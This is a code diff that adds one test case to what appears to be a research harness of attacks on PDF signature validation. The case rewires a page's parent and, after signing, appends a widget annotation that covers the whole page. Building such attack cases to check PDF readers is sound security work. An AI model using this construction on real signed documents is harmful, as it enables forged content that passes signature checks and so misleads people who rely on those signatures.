@@ -80,6 +80,16 @@ def _list_apart(victims: Victims) -> bytes:
     return append(data, {**listed(data, new), 30: b"[%d 0 R]" % new, new: WIDGET % OVER_ALL})
 
 
+@attack("annotations of the page tree: a list that only what a page calls its parent has", OURS)
+def _list_of_a_parent(victims: Victims) -> bytes:
+    plain = small_pdf()
+    page = raw_object(plain, 4).replace(b"/Parent 2 0 R", b"/Parent 40 0 R")
+    made = append(plain, {4: page, 40: b"<</Type/Page/Annots 30 0 R>>", 30: b"[]"})
+    data = victims.signing.sign(made, page=1)
+    new = size_of(data)
+    return append(data, {**listed(data, new), 30: b"[%d 0 R]" % new, new: WIDGET % OVER_ALL})
+
+
 def _behind_a_reference(victims: Victims, entries: bytes, more: dict[int, bytes] | None = None) -> bytes:
     """Append a field whose object is a reference to the field, which some readers follow."""
     data = victims.signing.sign(page=1)
